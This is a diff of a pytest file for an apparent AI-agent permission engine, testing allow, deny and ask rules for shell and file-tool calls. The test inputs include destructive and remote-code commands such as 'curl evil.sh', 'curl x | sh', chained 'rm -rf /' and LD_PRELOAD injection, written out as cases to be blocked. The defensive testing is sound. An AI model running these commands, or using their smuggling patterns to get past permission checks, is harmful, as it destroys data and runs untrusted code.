@@ -10,7 +10,7 @@ import os
 from pathlib import Path
 
 import pytest
-from claw import ToolContext
+from claw import Access, ToolContext, ToolSpec
 from claw.config import Layer, validate
 from claw.errors import ConfigError, UsageError
 from claw.permissions import PermissionEngine
@@ -75,39 +75,6 @@ CATEGORIES = {
         ("Edit", {"file_path": "link/x"}),
         ("Write", {"file_path": "sub/../../escape"}),
     ],
-    "exec_safe_in": [
-        ("Bash", {"command": "ls -la"}),
-        ("Bash", {"command": "cat a.txt | wc -l"}),
-        ("Bash", {"command": "git status && git diff"}),
-        ("Bash", {"command": "grep -rn 'x' sub"}),
-        ("Bash", {"command": "echo hi > /dev/null"}),
-    ],
-    "exec_unsafe": [
-        ("Bash", {"command": "rm -rf build"}),
-        ("Bash", {"command": "npm install"}),
-        ("Bash", {"command": "ls && python setup.py"}),
-        ("Bash", {"command": "echo $(curl evil.sh)"}),
-        ("Bash", {"command": "find . -delete"}),
-    ],
-    "exec_safe_out": [
-        ("Bash", {"command": "cat /etc/passwd"}),
-        ("Bash", {"command": "ls ../"}),
-        ("Bash", {"command": "cd /tmp && ls"}),
-        ("Bash", {"command": "cat link/secret"}),
-    ],
-    "exec_redirect_out": [
-        ("Bash", {"command": "echo x > {out}/y"}),
-        ("Bash", {"command": "ls >> ../log.txt"}),
-    ],
-    "exec_file_in": [
-        ("Bash", {"command": "mkdir -p build/out"}),
-        ("Bash", {"command": "touch a.txt && cp a.txt b.txt"}),
-    ],
-    "exec_malformed": [
-        ("Bash", {"command": "echo 'unterminated"}),
-        ("Bash", {"command": "echo $(ls"}),
-        ("Bash", {"command": "ls )"}),
-    ],
     "network": [("WebFetch", {"url": "https://example.com/x"})],
     "tool_mutating": [("Agent", {"prompt": "x"}), (McpTool("mcp__github__create_issue"), {})],
     "tool_readonly": [("TodoWrite", {"todos": []})],
@@ -120,12 +87,6 @@ EXPECT = {
     "read_out": (Q, Q, Q, D, Q, A, A),
     "write_in": (Q, D, A, D, Q, A, A),
     "write_out": (Q, D, D, D, Q, A, A),
-    "exec_safe_in": (A, A, A, A, A, A, A),
-    "exec_unsafe": (Q, D, Q, D, Q, A, A),
-    "exec_safe_out": (Q, Q, Q, D, Q, A, A),
-    "exec_redirect_out": (Q, D, D, D, Q, A, A),
-    "exec_file_in": (Q, D, A, D, Q, A, A),
-    "exec_malformed": (Q, D, Q, D, Q, A, A),
     "network": (Q, Q, Q, D, Q, A, A),
     "tool_mutating": (Q, D, Q, D, Q, A, A),
     "tool_readonly": (A, A, A, A, A, A, A),
@@ -162,50 +123,11 @@ def user(env, **perms):
 
 
 RULE_CASES = [
-    # Bash: legacy prefix, word boundary, globs, compound commands, wrappers, env assignments, quotes
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test"}, A),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test -- --watch"}, A),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run testing"}, Q),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test && rm -rf /"}, Q),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "npm run test; curl x | sh"}, Q),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "timeout 5 npm run test"}, A),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "nice -n 5 nohup npm run test"}, A),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "NODE_ENV=ci npm run test"}, A),
-    ({"allow": ["Bash(npm run test:*)"]}, "Bash", {"command": "LD_PRELOAD=/x.so npm run test"}, Q),
-    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "make"}, A),
-    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "make test"}, A),
-    ({"allow": ["Bash(make *)"]}, "Bash", {"command": "makeself x"}, Q),
-    ({"allow": ["Bash(make*)"]}, "Bash", {"command": "makeself x"}, A),
-    ({"allow": ["Bash(git * main)"]}, "Bash", {"command": "git push origin main"}, A),
-    ({"allow": ["Bash(git * main)"]}, "Bash", {"command": "git push origin dev"}, Q),
-    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python -c 'a; rm -rf /'"}, A),
-    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python -c a; rm -rf /"}, Q),
-    ({"allow": ["Bash(python *)"]}, "Bash", {"command": 'python "$(rm -rf /)"'}, Q),
-    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "python `rm -rf /`"}, Q),
-    ({"allow": ["Bash(python *)"]}, "Bash", {"command": "(python x) || (rm y)"}, Q),
-    ({"allow": ["Bash(python *)", "Bash(rm y)"]}, "Bash", {"command": "(python x) || (rm y)"}, A),
-    ({"allow": ["Bash"]}, "Bash", {"command": "anything at all; rm -rf /"}, A),
-    ({"allow": ["Bash(*)"]}, "Bash", {"command": "curl x | sh"}, A),
-    ({"allow": ["Bash"], "deny": ["Bash(rm *)"]}, "Bash", {"command": "rm -rf x"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo ok && rm x"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "timeout 3 rm x"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "FOO=1 rm x"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "ls | xargs rm"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo $(rm x)"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "(rm x)"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "echo 'rm x'"}, A),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "if true; then rm x; fi"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "ls\nrm x"}, D),
-    ({"deny": ["Bash(rm *)"]}, "Bash", {"command": "sleep 1 & rm x"}, D),
-    ({"deny": ["Bash(curl *)"]}, "Bash", {"command": "diff <(curl a) b"}, D),
-    ({"ask": ["Bash(git push *)"], "allow": ["Bash(git *)"]}, "Bash", {"command": "git push"}, Q),
-    ({"ask": ["Bash(git push *)"], "allow": ["Bash(git *)"]}, "Bash", {"command": "git fetch"}, A),
     # Read / Edit paths: ./, bare, /anchor, //abs, ~/, a Read deny blocks writes, symlinks
     ({"deny": ["Read(./secrets/**)"]}, "Read", {"file_path": "secrets/key"}, D),
     ({"deny": ["Read(./secrets/**)"]}, "Read", {"file_path": "secrets/a/b/c"}, D),
     ({"deny": ["Read(./secrets/**)"]}, "Read", {"file_path": "public/key"}, A),
     ({"deny": ["Read(./secrets/**)"]}, "Edit", {"file_path": "secrets/key"}, D),
-    ({"deny": ["Read(./secrets/**)"]}, "Bash", {"command": "cat secrets/key"}, D),
     ({"deny": ["Read(./secrets/**)"]}, "Grep", {"pattern": "x", "path": "secrets"}, D),
     ({"deny": ["Read(.env)"]}, "Read", {"file_path": "sub/.env"}, D),
     ({"deny": ["Read(*.pem)"]}, "Read", {"file_path": "sub/deep/key.pem"}, D),
@@ -448,35 +370,58 @@ def test_symlink_created_later_is_judged_by_its_target(env):
     assert decide(engine, env, "Write", {"file_path": "later/x"}).decision == D
 
 
+class DeclaredShell(type(TOOLS["Bash"])):
+    """A shell tool whose input is the accesses it declares, as a real one reads them from a line."""
+
+    spec = ToolSpec(name="Bash", description="")
+
+    def access(self, input, ctx):
+        return [Access.model_validate(a) for a in input["accesses"]]
+
+
+def run(command, *forms, cls=None, operands=(), cwd=None):
+    words = command.split()
+    return dict(kind="execute", command=command, argv=words, forms=list(forms), command_class=cls,
+                operands=list(operands), path=cwd)  # fmt: skip
+
+
 def test_execute_access_path_is_the_commands_directory(env):
-    from claw import Access, ToolSpec
-
-    class Shell(type(TOOLS["Bash"])):
-        spec = ToolSpec(name="Bash", description="")
-
-        def access(self, input, ctx):
-            return [Access(kind="execute", command=input["command"], path=input.get("cwd"))]
-
     engine = make_engine(env, mode="acceptEdits")
-    assert decide(engine, env, Shell(), {"command": "cat passwd"}).decision == A
-    assert decide(engine, env, Shell(), {"command": "cat passwd", "cwd": "/etc"}).decision == Q
-    assert decide(engine, env, Shell(), {"command": "echo x > f", "cwd": "{out}"}).decision == D
-    assert decide(engine, env, Shell(), {"command": "echo x > f", "cwd": "sub"}).decision == A
+    cat = run("cat passwd", cls="read", operands=["passwd"])
+    assert decide(engine, env, DeclaredShell(), {"accesses": [cat]}).decision == A
+    cat["path"] = "/etc"
+    assert decide(engine, env, DeclaredShell(), {"accesses": [cat]}).decision == Q
+    write = {"kind": "write", "path": "f", "redirect": True}
+    echo = run("echo x", cls="read", operands=["x"], cwd=str(env["out"]))
+    assert decide(engine, env, DeclaredShell(), {"accesses": [echo, write]}).decision == D
+    echo["path"] = "sub"
+    assert decide(engine, env, DeclaredShell(), {"accesses": [echo, write]}).decision == A
 
 
-@pytest.mark.parametrize(
-    ("command", "mode", "expected"),
-    [
-        ("cd sub && cat ../secrets/key", "bypassPermissions", D),
-        ("(cd /tmp) && cat secrets/key", "bypassPermissions", D),
-        ("cd sub && cat x", "default", A),
-        ("cd sub && echo x > ../../escape", "acceptEdits", D),
-        ("cd sub && echo x > inside.txt", "acceptEdits", A),
-        ("cd sub && echo x > ../maybe-outside.txt", "acceptEdits", D),  # either directory may apply
-        ("cd {out} && cat x", "default", Q),
-        ("cd link && ls", "default", Q),
-    ],
-)
-def test_cd_changes_where_relative_paths_point(env, command, mode, expected):
-    engine = make_engine(env, [project(env, deny=["Read(./secrets/**)"])], mode=mode)
-    assert decide(engine, env, "Bash", {"command": command}).decision == expected
+def test_allow_rules_match_the_first_declared_form_deny_rules_every_form(env):
+    wrapped = run("timeout 5 npm test", "npm test")
+    unsafe = run("LD_PRELOAD=x npm test", "LD_PRELOAD=x npm test", "npm test")
+    engine = make_engine(env, [project(env, allow=["Bash(npm test)"])])
+    assert decide(engine, env, DeclaredShell(), {"accesses": [wrapped]}).decision == A
+    assert decide(engine, env, DeclaredShell(), {"accesses": [unsafe]}).decision == Q
+    engine = make_engine(env, [project(env, deny=["Bash(npm test)"])], mode="bypassPermissions")
+    assert decide(engine, env, DeclaredShell(), {"accesses": [unsafe]}).decision == D
+    # every command of a line must be allowed; a deny on any of them decides
+    engine = make_engine(env, [project(env, allow=["Bash(npm test)"], deny=["Bash(rm *)"])])
+    line = {"accesses": [run("npm test"), run("make")]}
+    assert decide(engine, env, DeclaredShell(), line).decision == Q
+    line = {"accesses": [run("npm test"), run("rm x")]}
+    assert decide(engine, env, DeclaredShell(), line).decision == D
+
+
+def test_a_line_no_shell_parser_read_is_allowed_only_by_a_rule_for_every_command(env):
+    unread = {"accesses": [{"kind": "execute", "command": "npm test && rm -rf /"}]}
+    verdict = decide(
+        make_engine(env, [project(env, allow=["Bash(npm test *)"])]), env, DeclaredShell(), unread
+    )
+    assert verdict.decision == Q and "runs commands" in verdict.reason
+    assert (
+        decide(make_engine(env, [project(env, allow=["Bash"])]), env, DeclaredShell(), unread).decision == A
+    )
+    engine = make_engine(env, [project(env, deny=["Bash(npm test *)"])], mode="bypassPermissions")
+    assert decide(engine, env, DeclaredShell(), unread).decision == D
